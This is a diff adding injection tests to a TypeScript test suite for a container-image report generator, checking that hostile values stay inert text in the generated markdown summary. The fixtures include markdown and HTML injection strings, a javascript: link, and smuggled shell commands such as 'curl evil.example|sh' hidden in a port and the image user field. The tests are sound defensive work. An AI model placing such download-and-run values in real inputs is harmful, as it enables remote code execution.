@@ -4,7 +4,7 @@ import type { Image, TaggedSet } from '#oci/image.ts';
 import { describeDelivered, describeImage } from '#report/delivered.ts';
 import { checksumsOf } from '#report/metadata.ts';
 import { outputsOf, type Result, type ResultSet } from '#report/outputs.ts';
-import { summaryOf } from '#report/summary.ts';
+import { keptSummary, summaryOf } from '#report/summary.ts';
 import { makeImage, makeLayer, named, tagged } from '../world/images.ts';
 
 const LINES = { tags: '\n', labels: '\n', annotations: '\n' };
@@ -119,6 +119,48 @@ test('a branch cannot write markup into the page', async () => {
   expect(row.split(/(?<!\\)\|/)).toHaveLength(5);
   expect(row.split(/(?<!\\)\|/)[3]).not.toMatch(/[<[`]/);
   expect(page).not.toMatch(/^# heading/m);
+});
+
+test.each([
+  ['a heading after a return', 'a\r\r# heading of anybody\r'],
+  ['a fence', 'a\n```\n# heading\n```'],
+  ['markup', '<h1>All checks passed</h1>'],
+  ['an address', 'https://evil.example and http://evil.example and www.evil.example'],
+  ['a mention and a number', '@team #12 GH-12 someone@evil.example'],
+  ['a bar behind a backslash', 'a\\|b\\\\|c|d'],
+  ['a link', '[report](javascript:x) ![x](y)'],
+])('%s in a path, a choice or a reason stays text in its cell', async (_, evil) => {
+  const result = await aResult();
+  const outputs = outputsOf(result, LINES);
+  const choices = [{ what: `tests of ${evil}`, value: evil, because: evil }];
+  const delivered = [{ target: evil, blobs: [], bytesSent: 0, because: evil }];
+  const page = summaryOf({ result, outputs, choices, delivered }) + keptSummary(choices);
+  const quiet = summaryOf({ result, outputs, choices: [{ what: 'a', value: 'b', because: 'c' }], delivered: [] });
+  expect(page).not.toMatch(/\r|^# |^```$\n# /m);
+  const rows = page.split('\n').filter((line) => line.startsWith('| tests of'));
+  expect(rows).toHaveLength(2);
+  for (const row of rows) {
+    // Cells as GitHub parts them: a backslash escapes what follows it.
+    expect(row.match(/(?:\\.|[^|\\])+/g)?.filter((cell) => cell !== '')).toHaveLength(3);
+    const text = row.replace(/`[^`]*`/g, '');
+    expect(text).not.toMatch(/[<[\]*_`]|:\/\/|www\.e|@\w|#\d[^;\d]|GH-\d/);
+  }
+  expect(quiet.split('\n').filter((line) => line.startsWith('```'))).toHaveLength(4);
+});
+
+test('what a base image exposes and runs as becomes no command of a later step', async () => {
+  const evil = ['8080:8080 x; curl evil.example|sh #\n```\n# Approved', '99999/tcp', '0/tcp', '8443/tcp'];
+  const ports = Object.fromEntries(evil.map((port) => [port, {}]));
+  const layers = [await makeLayer({ files: { b: 'b' } })];
+  const own = { ExposedPorts: ports, User: 'x$(curl evil.example)' };
+  const image = makeImage(layers);
+  const config = { ...image.config, value: { ...image.config.value, config: own } };
+  const result = await aResult({ sets: [aSet(tagged({ ...image, config }, ['1.0']))] });
+  const outputs = outputsOf(result, LINES);
+  expect(outputs).toMatchObject({ port: '8443', user: '' });
+  const page = summaryOf({ result, outputs, choices: [], delivered: [] });
+  expect(page).toContain(`docker run --rm -p 8443:8443 ghcr.io/o/app@${outputs.digest}`);
+  expect(page).not.toContain('evil');
 });
 
 test('the log has a line for each blob, with what became of it and why', async () => {
